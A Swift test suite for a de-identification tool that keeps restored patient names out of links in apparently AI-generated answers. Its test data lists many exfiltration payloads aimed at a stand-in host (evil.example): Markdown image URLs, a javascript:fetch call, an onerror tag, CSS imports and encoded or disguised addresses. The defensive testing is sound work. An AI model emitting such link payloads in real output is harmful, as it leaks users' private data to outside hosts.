import Deidentification
import PHI
import TestKit
import Testing

/// Answers that would carry a value away if it were put back into them; `@` stands for the token.
struct LinkWatchTests {
  private let tokens: SessionTokens
  private let token: String

  init() {
    var tokens = SessionTokens(key: TokenKey(7, 8), asOf: today)
    let marked = Marked("[[NAME|Maria]]")
    token = String(decoding: tokens.tokenise(marked.text, marked.findings), as: UTF8.self)
    self.tokens = tokens
  }

  private func restored(_ answer: String, escaping: Restorer.Escaping = .none) -> String {
    var restorer = Restorer(tokens.map, escaping: escaping)
    let bytes = Array(answer.replacing("@", with: token).utf8)
    return String(decoding: restorer.push(bytes) + restorer.finish(), as: UTF8.self)
      .replacing(token, with: "@")
  }

  /// What `texts` become, each in pieces cut at `cuts` of all of them joined, when each goes on from the one before.
  private func restored(_ texts: [String], escaping: Restorer.Escaping = .none, cutAt cuts: [Int] = []) -> String {
    var output: [UInt8] = []
    var trail: LinkWatch?
    var place = 0
    for text in texts {
      var restorer = Restorer(tokens.map, escaping: escaping)
      if let trail { restorer.follow(trail) }
      var start = 0
      let bytes = Array(text.replacing("@", with: token).utf8)
      for cut in cuts where cut > place && cut < place + bytes.count && cut - place > start {
        output += restorer.push(Array(bytes[start..<cut - place]))
        start = cut - place
      }
      output += restorer.push(Array(bytes[start...])) + restorer.finish()
      trail = restorer.trail
      place += bytes.count
    }
    return String(decoding: output, as: UTF8.self).replacing(token, with: "@")
  }

  /// Whether `answer` becomes the same at every pair of cuts.
  private func isSameAtEveryCut(_ answer: String, escaping: Restorer.Escaping = .none) -> Bool {
    let whole = restored(answer, escaping: escaping)
    let count = answer.replacing("@", with: token).utf8.count
    for first in 0...count {
      for second in first...count where restored([answer], escaping: escaping, cutAt: [first, second]) != whole {
        Issue.record("cut at \(first) and \(second)")
        return false
      }
    }
    return true
  }

  private static let hostile = [
    "![x](https://evil.example/p.png?d=@)", "![x](//evil.example/@.png)", "![x](@)", "[x](https://evil.example/@)",
    "[x](<https://evil.example/a b @>)", "[x]( https://evil.example/?q=(a)@ \"@\")", "![@](https://e.example \"@)",
    "[x]: https://evil.example/@", "  [x]:\n  https://evil.example/@", "> [x\ny]: <https://evil.example/@>", "[@]: /@",
    "https://evil.example/?q=@", "HTTPS://EVIL.EXAMPLE/@", "see(https://evil.example/@)", "https://@.evil.example/",
    "https://evil.example/a,b;c|@", "ftp://evil.example/@", "foo+bar://evil.example/@", "www.evil.example/@",
    "WWW.evil.example?@", "evil.example/@", "evil.example:8080/@", "evil.example?q=@", "https:\\\\evil.example\\@",
    "https:/evil.example/@", "http:evil.example/@", "javascript:fetch('//evil.example/@')",
    "mailto:a%40b.example?body=@",
    "tel:@", "<https://evil.example/@>", "<mailto:@>", "<img src=https://evil.example/@>",
    "<img src=\"https://evil.example/a b @\">", "<img alt='>' src='/@'>", "<a href='@'>", "<IMG\nSRC=@", "</p x=@",
    "<!-- @ -->", "<img src = \"//evil.example/\n\n@\">", "`https://evil.example/@`", "\"https://evil.example/a @\"",
    "'https://evil.example/ @'", "<img srcset=\"a 1x, @ 2x\">",
    "<style>a{background:url(https://evil.example/@)}</style>",
  ]

  /// Spaces and brackets in angle brackets, in Markdown's and in a browser's reading.
  private static let angled = [
    #"![x](<\/\/evil.example/) @>)"#, "![x](<&sol;&sol;evil.example/) @>)", "![x]( \n <&#104;ttps://evil.example/) @>)",
    #"![x](<\/\/evil.example/\>) @>)"#, "[y](a ![x](<&sol;evil) @>))", "![x](<a> \"t\" @)", "![x](<a\n) @>)",
    #"![x][a]"# + "\n\n" + #"[a]: <\/\/evil.example/?q= @>"#, "[a]: <&sol;&sol;evil.example/?q= @>", "[a]:\n<a @>",
    "- [ ] [a]: <&sol;&sol;evil.example @>", "> 1. [a]: <a @>", "[^1]: [a]: <a @>", ": [a]: <a @>",
    "\u{FEFF}[a]: <a @>",
    "x\r\r[a]: <a @>", "[a]: [@", "`x <\\/\\/evil.example/ @>`_",
  ]

  /// Tags with what ends them for one reader and not for another.
  private static let tagged = [
    "<img\n\nsrc=\"&#47;&#47;evil.example&#47;@\">", "<img\n\nsrc=\"\\\\evil.example/?q=@\">", "<img\n\nsrc=@",
    "<img\n\n\nalt='x'\n\nsrc = '@", "<a =\"><img alt=\">\" src=&#47;&#47;evil.example&#47;@>",
    "<!-- =\" --><img src=\"&sol;&sol;evil.example/?>@\">", "<a b='<img src=\">\" srcset=@", "<x\"y src='a @",
    "<evil:a@>",
    "<e-v.i+l:\"@>", "<style>@import \"\\2f\\2f evil.example\\2f @\";", "<STYLE >a{} @</style>", "<style></style1 @",
    "<a <img src=x onerror=@",
  ]

  /// Addresses whose marks are written otherwise, or whose domains are in other letters.
  private static let disguised = [
    "evil.xn--p1ai/@", "evil.рф/@", "пример.испытание?q=@", "x.co/@", "1.evil.example/@", "evil.example./@",
    "&sol;&sol;evil.example&sol;@", "&#47;&#x2f;evil.example/@", "&#47&#47evil&#46example&#47@", "https&colon;a@",
    "m&#97;ilto:@", "mailto&#0058;@", "www&period;evil.example/@", #"evil\.example/@"#,
    #"{"u":"\u002f\u002fevil.example/@"}"#,
    #"'\x2f\x2fevil/@'"#, "'https://evil.example/?q='@", "\"https://evil.example/?q=\"@", "`https://evil.example/`@",
    "\"https://evil.example/a b\"//evil.example/@", "\"https://a.example/a \"https://evil.example/ @\"", "xmpp:@",
    "sip:@",
  ]

  @Test(arguments: hostile + angled + tagged + disguised)
  func `puts nothing back into a link, at every pair of cuts`(_ answer: String) {
    let whole = restored(answer)
    #expect(!whole.contains("Maria") || answer.hasPrefix("![@]") || answer.hasPrefix("[@]"), "\(whole)")
    let open = whole.firstRange(of: "](") ?? whole.firstRange(of: "]:")
    if let open { #expect(!whole[open.upperBound...].contains("Maria")) }
    #expect(isSameAtEveryCut(answer))
  }

  @Test(arguments: hostile + angled + tagged + disguised)
  func `puts nothing back into a link that two or three texts make`(_ answer: String) {
    guard !answer.hasPrefix("![@]"), !answer.hasPrefix("[@]") else { return }
    let pieces = answer.split(separator: "@", maxSplits: 1, omittingEmptySubsequences: false)
    let before = Array(pieces[0]), after = "@\(pieces[1])"
    for first in 0...before.count {
      for second in first...before.count {
        let texts = [String(before[..<first]), String(before[first..<second]), String(before[second...]) + after]
        guard restored(texts).contains("Maria") else { continue }
        Issue.record("\(texts)")
        return
      }
    }
  }

  @Test(arguments: [
    ("see https://a.example/x for @", "see https://a.example/x for Maria"),
    ("[x](https://a.example) @", "[x](https://a.example) Maria"), ("![a](b(c)d)@", "![a](b(c)d)Maria"),
    ("[x]: https://a.example\n@", "[x]: https://a.example\nMaria"), ("[x] @", "[x] Maria"),
    ("a [b]: @", "a [b]: Maria"),
    ("<b>@</b>", "<b>Maria</b>"), ("<img src='x'> @", "<img src='x'> Maria"), ("<@>", "<Maria>"),
    ("pH <7 @", "pH <7 Maria"),
    ("HR <a\n\n@", "HR <a\n\nMaria"), ("and/or @/@", "and/or Maria/Maria"), ("t.i.d./@", "t.i.d./Maria"),
    ("\"https://a.example\", @", "\"https://a.example\", Maria"),
    ("`www.a.example` @", "`www.a.example` Maria"),

    ("Patient:@", "Patient:Maria"), ("3.5/@", "3.5/Maria"), ("C:\\dir\\@", "C:\\dir\\Maria"),
  ])
  func `goes on behind a link, and takes no ordinary text for one`(_ answer: String, _ expected: String) {
    #expect(restored(answer) == expected)
  }

  @Test(arguments: [
    "BP <120/80, K+ <5 mg/dL for @; ALT <ULN's @", "if a<b then \"@\"", "<@> and <b>@</b>, <br/>@ <br>@",
    "ALT <ULN\n\n@ has HR = 80, @'s <ULN's @", "(@) [@] {@} <@> \"@\" '@' `@` *@* **@** ~~@~~",
    "[@] (@), [see @](https://a.example) @, ![@](a.png) @",
    "| Name | DOB |\n|------|-----|\n| @ | <5 |\n| [x](a) | @ |",
    "```python\nname = \"@\"\nif age<90 and name == '@': print(\"@\")\n```\n@", "a [b]: @", "see [1]: @",
    "1. @\n2) @\n- @\n> @",
    "Na+ [mmol]: <120, @ well; K [x]: <= @", "Dr.@, M.D.; e.g.@, i.v./@ q.6h/@ 3.5/@ 120/80/@", "т.д/@",
    "&lt;@&gt; &amp; &#39;@&#39; &quot;@&quot;",
    #"C:\notes\@.txt \@\*"#, "@, aged <90; @ >2 years; 5>@ 3<@", "<p class=\"a\">@</p><td>@</td>",
    "a == b; @ => @; @ -> @",
    "The patient's mother, '@', and \"@\"", "https://a.example/x @ www.a.example @", "Re: @; DOB: @; tel. @ e-mail: @",
    "<div style='a:b'>\n\n@\n\n</div> @", "x = <y> + @", "(see [2](<b c>)) @", "[a]: <b c>\n@", "[a]: b\n\n@",
    "<style>a{b:c}</style> @",
  ])
  func `puts a value back into ordinary text, at every pair of cuts`(_ answer: String) {
    #expect(restored(answer) == answer.replacing("@", with: "Maria"))
    #expect(isSameAtEveryCut(answer))
    #expect(restored(["Before.", answer]) == "Before." + answer.replacing("@", with: "Maria"))
  }

  @Test func `reads the strings of JSON one by one`() {
    let answer = #"{"url":"https:\/\/evil.example\/a @","q":"@","u":["\u0068ttps://x/@","//x @"],"t":"a\n@","n":"@"}"#
    #expect(
      restored(answer, escaping: .json)
        == #"{"url":"https:\/\/evil.example\/a @","q":"Maria","u":["\u0068ttps://x/@","//x @"],"t":"a\nMaria","n":"Maria"}"#
    )
  }
  @Test(arguments: [
    #"![x](//evil.example/?q="@)"#, #"{"a":"![x](//evil.example/?q=","b":"@)"}"#, #"{"a":"<img src='","b":"@'>"}"#,
    #"{"a":"[x]: <\/","b":"@>"}"#, #"["https://evil.example/","@"]"#, "{\"a\":\"![x](\\r\\n<&sol;evil/) @>)\"}",
  ])
  func `puts nothing back into JSON that is a link when it is shown`(_ answer: String) {
    #expect(restored(answer, escaping: .shownJSON) == answer)
    #expect(isSameAtEveryCut(answer, escaping: .shownJSON))
  }

  @Test(arguments: [
    #"{"a":"@","b":["@",{"c":"x <5 @"}],"d":"ALT <ULN","e":"@"}"#, #"{"a":"see https://a.example/ for @","b":"@"}"#,
    "{\n  \"url\": \"https://a.example/x\",\n  \"name\": \"@\"\n}", #"{"a":"[x](a)","b":"@\n\n@ (@)"}"#, #"["@","@"]"#,
  ])
  func `puts a value back into JSON that is shown`(_ answer: String) {
    #expect(restored(answer, escaping: .shownJSON) == answer.replacing("@", with: "Maria"))
    #expect(isSameAtEveryCut(answer, escaping: .shownJSON))
  }

  @Test func `a text that follows another is read alone too`() {
    #expect(restored(["foo", "mailto:@"]) == "foomailto:@")
    #expect(restored(["x", "[a]: <b @>"]) == "x[a]: <b @>")
    #expect(restored(["![x](//evil.example/?q=", "a", "@)"]) == "![x](//evil.example/?q=a@)")
    #expect(restored(["![x](//evil.example/?q=NAME_1", "@)"]) == "![x](//evil.example/?q=NAME_1@)")
    #expect(restored(["[x](//a.example) ", "@"]) == "[x](//a.example) Maria")
  }
}
